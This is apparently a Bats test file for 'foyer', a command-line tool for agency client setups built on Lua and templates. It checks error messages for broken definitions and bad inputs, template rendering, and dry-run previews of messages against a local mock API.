  for bad in '1' '"x"' '{ 1, 2 }' 'true' '{ { {} } }'; do
    for key in name front recipes vars hosts timezone uncertain; do
      printf 'return {\n  %s = %s,\n}\n' "$key" "$bad" | put clients/acme/client.lua
      printf 'return {\n  %s = %s,\n}\n' "$key" "$bad" | put foyer.lua
      printf 'return {\n  %s = %s,\n}\n' "$key" "$bad" | put clients/beta/ids.lua
      check
      [ "$status" = 65 ]
      [[ $output != *"cannot load"* && $output != *"built-in"* && $stderr != *foyer:* ]]
    done
  done
  printf 'return {\n  name = "\xff",\n}\n' | put clients/acme/client.lua
  printf 'return {\n  summary = \xff,\n}\n' | put recipes/bytes.lua
  check
  [ "$status" = 65 ]
  [[ $output == *"clients/acme/client.lua:2: it is not UTF-8 (byte 0xff)"* ]]
  [[ $output == *"recipes/bytes.lua:2: it is not UTF-8 (byte 0xff)"* ]]
}

@test "long paths, of which Lua shows the end only, are whole" {
  long=clients/a-client-with-a-rather-long-name-as-agencies-have-them
  mkdir -p "$AGENCY/$long"
  printf 'return {\n  name = 1 +,\n}\n' | put $long/client.lua
  printf 'return {\n  run =\n}\n' | put $long/lua/front/actions/send-conversation-reply.lua
  printf 'return {\n  run = nil .. 1\n}\n' | put $long/lua/front/actions/list-conversations.lua
  finds "$long/client.lua:2: syntax error: unexpected symbol near ','" \
    "$long/lua/front/actions/list-conversations.lua:2: attempt to concatenate a nil value" \
    "$long/lua/front/actions/send-conversation-reply.lua:3: syntax error: unexpected symbol near '}'"
}

# ---- at run time: the same sentences ----

call() {
  run --separate-stderr "$FOYER" -w "$AGENCY" call "$@" --client acme
}

@test "foyer call names file, line and field of a broken definition" {
  mistake_unknown_key
  call front/shout
  [ "$status" = 70 ]
  [ "$stderr" = "foyer: $says_unknown_key" ]
  mistake_wrong_type
  call front/list-inboxes
  [ "$status" = 70 ]
  [ "$stderr" = "foyer: $says_wrong_type" ]
  mistake_super
  call front/list-inbox
  [ "$status" = 70 ]
  [ "$stderr" = "foyer: $says_super" ]
}

@test "a mistake in what an override lies over is named there" {
  mistake_unknown_key
  printf 'return super {\n  summary = "Shout louder.",\n}\n' | put clients/acme/lua/front/actions/shout.lua
  call front/shout
  [ "$stderr" = "foyer: $says_unknown_key" ]
  finds "$says_unknown_key"
}

@test "wrong inputs of foyer call read well" {
  call front/send-conversation-reply conversation_id=inb_1 body=hi
  [ "$status" = 65 ]
  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input.conversation_id: "inb_1" is an inbox id; a conversation id starts with "cnv_"' ]
  call front/send-conversation-reply conversation_id=cnv_1 body=hi type=mail
  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input.type: "mail" is not one of message, comment' ]
  call front/send-conversation-reply conversation_id=cnv_1 body=hi author_id=lela
  [[ $stderr == *'input.author_id: "lela" is not a teammate: '*'did you mean "leela"?' ]]
  call front/send-conversation-reply conversation_id=cnv_1 boddy=hi
  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input: unknown key "boddy"; did you mean "body"?' ]
  call front/send-conversation-reply conversation_id=cnv_1
  [ "$stderr" = 'foyer: cannot call front/send-conversation-reply: input: "body" is missing (string)' ]
}

# ---- foyer render ----

render() {
  run --separate-stderr "$FOYER" -w "$AGENCY" render "$@" --client acme
}

@test "render: with the sample, with words, with a file" {
  render first-reply
  [ "$status" = 0 ]
  [[ $output == "<p>Hello Ada Example,</p>"*"Thank you for writing to acme."*"please call us: +1 555 0100"* ]]
  [ -z "$stderr" ]
  echo '<b>{{name}}</b> {{{name}}} {{vars.phone}}' | put templates/x.html
  render x 'name=a & b'
  [ "$output" = '<b>a &amp; b</b> a & b +1 555 0100' ]
  echo '{"name": "file", "list": [1, 2]}' >"$BATS_TEST_TMPDIR/data.json"
  echo '{{name}}{{#list}} {{.}}{{/list}} {{more}}' | put templates/x.md
  rm "$AGENCY/templates/x.html"
  render x --data "$BATS_TEST_TMPDIR/data.json" more:=3
  [ "$output" = 'file 1 2 3' ]
  render x --data "$BATS_TEST_TMPDIR/data.json" more=3 --json
  [ "$(jq -c . <<<"$output")" = '{"path":"templates/x.md","text":"file 1 2 3\n","unknown":[]}' ]
  render x --data "$BATS_TEST_TMPDIR/data.json" list.2=two list.3=three more=3
  [ "$output" = 'file 1 two three 3' ]
  render x --data "$BATS_TEST_TMPDIR/data.json" list.x=1
  [ "$status" = 64 ]
  [ "$stderr" = "foyer: cannot read list.x=…: list is a list: give an item's number, as in list.1" ]
}

@test "render: unknown variables, with file and line" {
  printf 'Hi\n\n{{conversation.subjcet}} {{nothing}}\n' | put clients/acme/templates/first-reply.md
  render first-reply
  [ "$status" = 65 ]
  [ "$output" = $'Hi\n\n ' ]
  [ "$stderr" = "clients/acme/templates/first-reply.md:3: unknown variable conversation.subjcet; did you mean 'conversation.subject'?
clients/acme/templates/first-reply.md:3: unknown variable nothing" ]
}

@test "render: mistakes on the command line" {
  render frist-reply
  [ "$status" = 65 ]
  [[ $stderr == *'there is no template "frist-reply"; did you mean "first-reply"?'* ]]
  run --separate-stderr "$FOYER" -w "$AGENCY" render first-reply
  [ "$status" = 64 ]
  render first-reply --conversation cnv_1 --data x
  [ "$status" = 64 ]
  echo '[1]' >"$BATS_TEST_TMPDIR/list.json"
  render first-reply --data "$BATS_TEST_TMPDIR/list.json"
  [ "$status" = 65 ]
}

@test "render: with a conversation of the company" {
  start_mock
  printf mock-token >"$BATS_TEST_TMPDIR/token"
  "$FOYER" init "$BATS_TEST_TMPDIR/fresh"
  "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" connect acme --token-file "$BATS_TEST_TMPDIR/token" --api-url "$MOCK"
  id=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/conversations" | jq -r '._results[0].id')
  subject=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/conversations/$id" | jq -r .subject)
  echo '{{{conversation.id}}} {{{conversation.subject}}}' >"$BATS_TEST_TMPDIR/fresh/templates/x.md"
  run --separate-stderr "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" render x --client acme --conversation "$id"
  [ "$status" = 0 ]
  [ "$output" = "$id $subject" ]
  # a dotted key adds to what was fetched; a whole one replaces it
  echo '{{{conversation.id}}} {{{conversation.subject}}} {{vars.phone}}' >"$BATS_TEST_TMPDIR/fresh/templates/x.md"
  run --separate-stderr "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" render x --client acme --conversation "$id" \
    conversation.subject=Wool conversation.more.deep=1 vars.phone=123
  [ "$output" = "$id Wool 123" ]
  run --separate-stderr "$FOYER" -w "$BATS_TEST_TMPDIR/fresh" render x --client acme --conversation "$id" \
    'conversation:={"id": 1, "subject": 2}' vars.phone=123
  [ "$output" = "1 2 123" ]
}

@test "render: what the runs would send whose text it is, options and overrides included" {
  start_mock
  printf mock-token >"$BATS_TEST_TMPDIR/token"
  AGENCY=$BATS_TEST_TMPDIR/fresh
  "$FOYER" init "$AGENCY"
  "$FOYER" -w "$AGENCY" connect acme --token-file "$BATS_TEST_TMPDIR/token" --api-url "$MOCK"
  local id author
  id=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/conversations" | jq -r '._results[0].id')
  author=$(curl -sf -H 'Authorization: Bearer mock-token' "$MOCK/teammates" | jq -r '._results[0].id')
  echo "return { name = \"Acme\", recipes = { greet = true, ended = true, [\"first-reply\"] = { template = \"welcome\", author = \"$author\" } } }" |
    put clients/acme/client.lua
  echo 'Welcome' | put clients/acme/templates/welcome.md
  echo 'return super { run = function(ctx, input, base)
    input.sender_name = "Acme Care"
    input.body = input.body .. " to us"
    return base(ctx, input)
  end }' | put clients/acme/lua/front/actions/send-conversation-reply.lua
  echo 'return { summary = "x", options = { text = { "template", default = "welcome.md" } },
    run = function(ctx) return ctx.skip("not\ntoday") end }' | put recipes/greet.lua
  # of another template; and one that is not switched on
  echo 'return { summary = "x", options = { text = { "template", default = "first-reply" } },
    run = function(ctx) return ctx.skip("never") end }' | put recipes/ended.lua
  echo 'return { summary = "x", options = { text = { "template", default = "welcome" } },
    run = function(ctx) return ctx.skip("never") end }' | put recipes/off.lua
  render welcome --conversation "$id" --json
  [ "$status" = 0 ]
  [ "$(jq -r .text <<<"$output")" = Welcome ]
  [ "$(jq -c '.runs | map(.recipe)' <<<"$output")" = '["first-reply","greet"]' ]
  [ "$(jq -r '.runs[0].would_send | .method + " " + .to' <<<"$output")" = "POST /conversations/$id/messages" ]
  [ "$(jq -c '.runs[0].would_send.body | [.author_id, .sender_name, .body]' <<<"$output")" = \
    "[\"$author\",\"Acme Care\",\"Welcome\\n to us\"]" ]
  [ "$(jq -r '.runs[1].would_skip' <<<"$output")" = $'not\ntoday' ]
  # the text alone goes to standard output
  render welcome --conversation "$id"
  [ "$status" = 0 ]
  [ "$output" = Welcome ]
  [ "$(head -1 <<<"$stderr")" = "recipe first-reply would send POST /conversations/$id/messages" ]
  [[ $stderr == *$'\n''    "sender_name": "Acme Care"'* ]]
  [ "$(tail -1 <<<"$stderr")" = 'recipe greet would be skipped: not today' ]
  # nothing is sent, and what one types into the text no run gets
  [ "$(mock_log '[.requests[] | select(.method != "GET")] | length')" = 0 ]
  render welcome --conversation "$id" x=1
  [ "$status/$stderr" = 0/ ]
  render welcome
  [ "$status/$stderr" = 0/ ]
}
